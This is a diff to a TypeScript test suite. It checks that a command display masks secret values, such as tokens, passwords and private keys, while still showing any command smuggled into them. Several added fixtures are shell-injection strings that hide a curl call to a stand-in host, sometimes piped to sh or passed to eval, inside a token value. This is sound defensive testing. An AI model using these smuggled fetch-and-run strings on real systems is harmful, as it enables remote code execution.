@@ -110,6 +110,12 @@ describe("what will run is read in full", () => {
     "Authorization: Bearer $(curl${IFS}https://evil.example)",
     "Authorization: Bearer x;curl${IFS}https://evil.example",
     "git clone https://me:$(curl${IFS}evil.example)@host/x",
+    "bash -c 'TOKEN=' ; curl https://evil.example | sh; echo ''",
+    "cat <<X\n'\nX\nTOKEN=' ; curl https://evil.example; echo '",
+    "TOKEN='curl https://evil.example;'; eval $TOKEN",
+    "echo \"\nTOKEN='$(curl https://evil.example)'\"",
+    "TOKEN=$'\\'' B_TOKEN=';curl https://evil.example'",
+    "TOKEN=a\\\\;curl https://evil.example",
     "TOKEN=${A:-$(curl${IFS}https://evil.example)}",
     // biome-ignore-end lint/suspicious/noTemplateCurlyInString: a shell reads them.
   ];
@@ -148,8 +154,29 @@ describe("what will run is read in full", () => {
       ['PASSWORD="a b" run', "PASSWORD=•••• run"],
       ["curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: Bearer ••••' x"],
       ["git clone https://me:abc@host/x|cat", "git clone https://me:••••@host/x|cat"],
+      ["export DB_PASSWORD='tr0ub4dor&3;zx9Q'", "export DB_PASSWORD=••••"],
+      ["A_TOKEN='sv=1&sig=a|b<c>`d'; run", "A_TOKEN=••••; run"],
+      ['API_KEY="a&b;c"\nrun', "API_KEY=•••• ⏎ run"],
+      ["API_KEY=abc\\&defghijk run", "API_KEY=•••• run"],
+      ["API_KEY=abc\\\\;run", "API_KEY=••••;run"],
+      ["# don't\nexport API_KEY='a&b'", "# don't ⏎ export API_KEY=••••"],
       ['KEY="-----BEGIN RSA PRIVATE KEY-----\nabc+/=\n-----END RSA PRIVATE KEY-----\n"', "KEY=••••"],
     ] as const)
       assert.equal(shownIn({ onstart, private: true }, "onstart"), shown);
+  });
+
+  test("a variable of one's own templates is masked, whatever signs are in it", () => {
+    const key =
+      "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\nab+/=\n-----END RSA PRIVATE KEY-----\n";
+    const certificate = key.replaceAll("RSA PRIVATE KEY", "CERTIFICATE");
+    for (const value of [
+      "sv=2022-11-02&ss=b&sig=Zm9vYmFyc2VjcmV0%3D",
+      ...["tr0ub4dor&3;zx9Q", "abc|def0123456789", "abc<DEF>ghi9876", "abcdef123456\n", key, `${certificate}${key}`],
+    ]) {
+      assert.equal(shownIn({ env: `-e API_KEY='${value}'` }, "variable API_KEY"), "••••", value);
+      assert.doesNotMatch(compared({ env: `-e API_KEY='${value}'` }, ""), /sig=|3;zx|def0|DEF|abcdef|ab\+/);
+    }
+    for (const value of ["$(run me)", "`run me`", "x\nrun me", `${key}run me`, `run me\n${key}`])
+      assert.match(shownIn({ env: `-e API_KEY='${value}'` }, "variable API_KEY"), /run me/, value);
   });
 });
